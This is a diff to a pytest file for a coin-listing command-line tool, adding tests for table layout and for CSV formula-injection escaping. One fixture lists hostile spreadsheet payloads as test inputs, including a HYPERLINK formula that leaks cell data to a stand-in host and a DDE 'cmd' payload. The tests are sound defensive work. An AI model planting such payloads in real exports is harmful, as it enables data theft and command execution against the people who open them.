@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import signal
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -100,8 +101,9 @@ def test_mints_are_read_from_a_file_and_from_stdin(
 
 
 def test_the_table_shows_names_literally(
-    sim: SimServer, capsys: pytest.CaptureFixture[str]
+    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    monkeypatch.setenv("COLUMNS", "200")
     mint = sim.create_coin(name="[bold red]Rug[/bold red]\x1b[5m", symbol="[b]RUG")
 
     status = coins_cli(sim, mint)
@@ -109,8 +111,67 @@ def test_the_table_shows_names_literally(
     out, _ = capsys.readouterr()
     assert status == 0
     assert "[bold red]Rug[/bold red]" in out
-    assert mint in out  # the mint is never cut
+    assert mint in out  # whole where it fits, to be copied
     assert "\x1b" not in out
+
+
+def cells_of(line: str) -> list[tuple[str, int, int]]:
+    """The cells of a table line (columns are 2 or more blanks apart), each with the terminal
+    cells where it starts and ends: an emoji or a CJK character is two cells wide."""
+    from rich.cells import cell_len
+
+    found = []
+    for match in re.finditer(r"\S+(?: \S+)*", line):
+        start = cell_len(line[: match.start()])
+        found.append((match.group(), start, start + cell_len(match.group())))
+    return found
+
+
+def test_the_table_fits_80_columns_with_short_mints_and_whole_figures(
+    sim: SimServer, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+
+    monkeypatch.setenv("COLUMNS", "80")
+    listed = sim.mints()[:4]
+    mints = [*listed, sim.create_coin(name="🚀" * 40 + "全角文字テスト", symbol="🚀全角")]
+    wire = {m: httpx.get(f"{sim.base_url}/coins-v2/{m}").json() for m in mints}
+
+    status = coins_cli(sim, *mints)
+
+    header, *lines = capsys.readouterr().out.splitlines()
+    headers = cells_of(header)
+    assert status == 0
+    assert [h for h, _, _ in headers] == [
+        "mint",
+        "name",
+        "symbol",
+        "mcap SOL",
+        "mcap USD",
+        "ATH USD",
+        "curve",
+        "age",
+    ]
+    assert len(lines) == len(mints)  # one line a coin: nothing wraps
+    for mint, line in zip(mints, lines, strict=True):
+        cells = cells_of(line)
+        assert cells[-1][2] <= 80
+        assert len(cells) == len(headers)
+        row = {h: cell for (h, _, _), (cell, _, _) in zip(headers, cells, strict=True)}
+        # Text starts under its header, figures end under theirs, whatever is wide before.
+        for (h, h_start, h_end), (_, start, end) in zip(headers, cells, strict=True):
+            if h in ("mint", "name", "symbol"):
+                assert start == h_start
+            else:
+                assert end == h_end
+        assert row["mint"] == f"{mint[:4]}…{mint[-4:]}"  # "EpNi…pump"
+        assert row["symbol"] == wire[mint]["symbol"]
+        usd = float(wire[mint]["usd_market_cap"])
+        assert row["mcap USD"] == f"${usd / 1000:.3g}k"  # "$4.58k": whole, as the app shows it
+        assert re.fullmatch(r"\d+%", row["curve"])
+        assert re.fullmatch(r"\d+[smhdy]", row["age"])
+    long_name = cells_of(lines[-1])[1][0]
+    assert long_name.startswith("🚀🚀🚀")
+    assert long_name.endswith("…")  # the long name is cut, the row stays one line
 
 
 def test_csv_has_a_header_and_a_row_per_item(
@@ -124,6 +185,35 @@ def test_csv_has_a_header_and_a_row_per_item(
     assert status == 0
     assert [r["mint"] for r in rows] == mints
     assert all(float(r["market_cap_sol"]) > 0 for r in rows)
+
+
+FORMULAS = {
+    # name as the server sends it: what a spreadsheet must show (never run)
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': (
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    ),
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'=1+1",  # the sanitiser trims the tab; the quote is still added after it
+    "\r\n=2+2": "'=2+2",
+    " =3+3": "'=3+3",
+}
+
+
+def test_csv_cells_that_look_like_formulas_are_written_as_text(
+    sim: SimServer, capsys: pytest.CaptureFixture[str]
+) -> None:
+    mints = [sim.create_coin(name=name, symbol="=SYM") for name in FORMULAS]
+
+    status = coins_cli(sim, *mints, "=not-a-mint", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert status == 1  # the invalid item
+    assert [r["name"] for r in rows[:-1]] == list(FORMULAS.values())
+    assert {r["symbol"] for r in rows[:-1]} == {"'=SYM"}
+    assert rows[-1]["mint"] == "'=not-a-mint"  # the user's own input is a cell too
+    assert all(float(r["market_cap_sol"]) > 0 for r in rows[:-1])  # numbers stay numbers
 
 
 def test_a_found_coin_carries_its_metadata_in_documented_units(
